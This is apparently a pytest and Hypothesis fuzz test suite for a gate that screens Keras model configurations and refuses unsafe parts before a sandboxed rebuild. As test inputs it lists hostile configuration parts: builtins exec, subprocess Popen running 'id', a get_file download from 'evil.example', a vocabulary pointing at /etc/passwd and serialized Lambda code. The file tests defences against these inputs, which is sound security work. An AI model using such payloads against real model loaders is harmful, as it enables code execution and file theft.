"""Fuzzing the gate of box 2: out of any claimed configuration comes plain allow-listed data, or a sentence that refuses it."""

import copy
import json
import math
import time

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from mutation import HOSTILE_TEXT, corpus, fuzz, mutated, nested, places, put, unraw

from grader import sandbox
from grader.errors import RebuildRefused
from grader.records import ModelClaim
from grader.training.box2 import Box2
from grader.training.canonical import _FORBIDDEN, _OBJECTS, _TENSOR_PARTS, MAX_DEPTH, MAX_INT, MAX_NODES, MODELS, canonical

CORPUS = {name: json.loads(data) for name, data in corpus("gate").items()}
pytestmark = pytest.mark.filterwarnings("ignore:Generating overly large repr")  # of an example that failed
GOOD = [config for name, config in CORPUS.items() if name.startswith("good")]

PARTS = [
    {"module": module, "class_name": name, "config": config, "registered_name": registered}
    for module, name, config, registered in [
        ("keras.layers", "Dense", {"units": 3}, None),
        ("keras.layers", "Lambda", {"function": {"class_name": "__lambda__", "config": {"code": "4wAAAA==", "defaults": None, "closure": None}}}, None),
        ("keras.layers", "StringLookup", {"vocabulary": "/etc/passwd"}, None),
        ("builtins", "function", "exec", "function"),
        ("builtins", "exec", {}, "exec"),
        ("subprocess", "Popen", {"args": ["id"]}, "Popen"),
        ("keras.utils", "get_file", {"origin": "https://evil.example/x"}, "get_file"),
        ("keras", "Sequential", {"layers": []}, None),
        ("keras.src.ops.numpy", "GetItem", {"name": "g"}, "GetItem"),
        ("keras.initializers", "Constant", {"value": 1e300}, None),
        ("keras", "DTypePolicy", {"name": "float16"}, None),
    ]
] + [{"class_name": name, "config": {"value": [1]}} for name in ("__lambda__", "__tensor__", "__numpy__", "__bytes__", "__typespec__", "__slice__", "__ellipsis__")]  # fmt: skip

configurations = mutated(GOOD, others=st.one_of(st.sampled_from(PARTS).map(copy.deepcopy), mutated(PARTS, most=2), mutated([1]))).map(unraw)


def depth(value):
    """How deeply lists and objects are nested, at most 200; without recursion."""
    level, below = 0, [value]
    while below and level < 200:
        below = [item for part in below for item in (part.values() if isinstance(part, dict) else part if isinstance(part, list) else ())]
        level += 1
    return level


def containers(value):
    yield from () if not isinstance(value, dict | list) else (id(value),)
    for item in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from containers(item)


def everything(value):
    yield value
    for item in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from everything(item)


def check(config):
    """What holds of the canonical form of anything; None where it is refused."""
    before = copy.deepcopy(config) if depth(config) < 200 else None
    try:
        result = canonical(config)
    except RebuildRefused as refusal:
        assert 0 < len(str(refusal)) < 300  # noqa: PT017
        return None
    assert config == before, "what is given is not changed"
    assert canonical(result) == result, "a second time changes nothing"
    assert not set(containers(config)) & set(containers(result)), "nothing is shared with what is given"
    assert (result["module"], result["class_name"]) in {
        (module, name) for module, names in _OBJECTS.items() for name in names if name in MODELS
    }
    for part in everything(result):
        if isinstance(part, dict):
            allowed_part(part)
        elif isinstance(part, str):
            assert "/" not in part
            assert "\\" not in part
            assert part.isprintable()
            assert len(part) <= 128
        elif isinstance(part, bool) or part is None or isinstance(part, list):
            continue
        else:
            assert type(part) in (int, float)
            assert math.isfinite(part)
            assert isinstance(part, float) or abs(part) <= MAX_INT
    assert json.loads(json.dumps(result, allow_nan=False)) == result
    return result


def allowed_part(part):
    assert all(isinstance(key, str) and key.isprintable() and len(key) <= 128 for key in part)
    assert not _FORBIDDEN & set(part)
    assert "build_config" not in part
    assert "compile_config" not in part or "class_name" not in part
    if "class_name" not in part:
        return
    name = part["class_name"]
    if name in _TENSOR_PARTS:
        assert set(part) == {"class_name", "config"}
        return
    assert name in _OBJECTS[part["module"]]
    assert part["registered_name"] in (None, name)
    assert set(part) <= {"class_name", "module", "config", "registered_name", "inbound_nodes", "name"}
    assert isinstance(part["config"], dict)


@pytest.mark.parametrize("name", CORPUS)
def test_the_kept_inputs(name):
    """`good-…`: written by Keras for honest models, let through. `bad-…`: refused. `any-…`: once broke the gate."""
    result = check(CORPUS[name])
    assert name.startswith("any") or (result is not None) == name.startswith("good")


@given(configurations)
@fuzz(300)
def test_what_comes_out_is_allow_listed(config):
    check(config)


@pytest.mark.parametrize(
    "config",
    [
        {"layers": 5},  # once a TypeError
        {"layers": True},
        {"layers": {"0": {}}},
        {"layers": [10**5000]},  # once a ValueError: too long to be written out
        {"layers": [-(10**5000)]},
        {"class_name": "Dense", "module": "keras.layers", "config": {}},
        {"class_name": nested([], 900, "list")},
        {"x": nested([], 900, "dict")},
    ],
    ids=range(8),
)
@pytest.mark.parametrize("module", ["keras", None, 3, [], {}, nested([], 900, "list")], ids=range(6))
def test_odd_models(config, module):
    for name in ("Sequential", "Functional"):
        check({"module": module, "class_name": name, "config": config})


HONEST = ("Dense", "Sequential", "GetItem", "Constant", "DTypePolicy", "__slice__", "__ellipsis__")


@pytest.mark.parametrize(
    "part",
    [part for part in PARTS if part["class_name"] not in HONEST],
    ids=lambda part: f"{part.get('module', '')}.{part['class_name']}",
)
def test_a_forbidden_part_is_refused_wherever_it_stands(part):
    """In every place of an honest model that the gate does not leave behind."""
    seed = CORPUS["good-sequential.json"]
    refused = kept = 0
    for place in places(seed):
        if any(key in ("build_config", "compile_config") for key in place):
            continue
        try:
            canonical(put(copy.deepcopy(seed), place, copy.deepcopy(part)))
        except RebuildRefused:
            refused += 1
        else:
            kept += 1
    assert (kept, refused > 100) == (0, True)


NAMES = ("", "NaN Infinity null true", "CON.ipynb", "\ufdfa" * 30)
"""Letters of any alphabet, dots and spaces may stand in a layer's name."""


@pytest.mark.parametrize("text", [text for text in HOSTILE_TEXT if text not in NAMES])
def test_hostile_text_is_refused_wherever_it_stands(text):
    seed = CORPUS["good-sequential.json"]
    for place in places(seed):
        if any(key in ("build_config", "compile_config") for key in place) or not place:
            continue
        with pytest.raises(RebuildRefused):
            canonical(put(copy.deepcopy(seed), place, text))


@pytest.mark.parametrize(
    "config",
    [
        [0] * (MAX_NODES + 1),
        [[0] * 1000] * 1000,
        nested([], MAX_DEPTH + 1, "list"),
        nested([], 900, "dict"),
        {str(number): number for number in range(MAX_NODES + 1)},
        ["x" * 4_000_000],
        ["é" * 4_000_000],
        [{"class_name": "ReLU", "module": "keras.layers", "config": {}}] * 1001,
        [10**4_000_000],
    ],
    ids=[
        "long list",
        "wide lists",
        "deep lists",
        "deep objects",
        "many keys",
        "long text",
        "long text with accents",
        "many layers",
        "long number",
    ],
)
@pytest.mark.parametrize("model", ["Sequential", "Functional"])
def test_its_cost_is_bounded(model, config):
    begun = time.process_time()
    with pytest.raises(RebuildRefused):
        canonical({"module": "keras", "class_name": model, "config": {"name": "m", "layers": config, "x": config}})
    assert time.process_time() - begun < 3


# ------------------------------------------------------------------ what Keras makes of it


@pytest.fixture(scope="module")
def box():
    with Box2(sandbox.choose(), sandbox.Limits()) as found:
        yield found


def claim(config, shape=None):
    return ModelClaim(serial=1, version=1, cell=0, kind="Functional", config=config, input_shape=shape)


plain_values = st.sampled_from([None, True, False, 0, 1, -1, 2, 7, 64, 10**6, 10**8, 0.5, -2.0, 1e300, "same", "valid", "relu", "softmax", "mean", "float16", "int8_from_float32", "x", "", [], [3, 3], [0, 0], [-1], {}, {"x": 1}]) | st.sampled_from([PARTS[0], PARTS[7], PARTS[8], PARTS[9], PARTS[10]]).map(copy.deepcopy)  # fmt: skip


@pytest.mark.slow
@given(mutated(GOOD, most=3, depths=(2,), others=plain_values).map(unraw), st.sampled_from([None, (8,), (32, 32, 3)]))
@fuzz(30)
def test_box_2_builds_what_the_gate_lets_through_or_says_why_not(box, config, shape):
    assume(check(config) is not None)
    begun = box._running
    graph, refusal = box.rebuild(claim(config, shape))
    assert (graph is None) != (refusal is None)
    assert refusal is None or 0 < len(refusal) < 600
    assert box._running is begun, "the box was started anew"
    assert begun.ending is None


@pytest.mark.slow
@pytest.mark.parametrize("name", [name for name in CORPUS if name.startswith("good")])
def test_box_2_builds_the_honest_models(box, name):
    graph, refusal = box.rebuild(claim(CORPUS[name]))
    assert refusal is None
    assert graph.parameters > 0
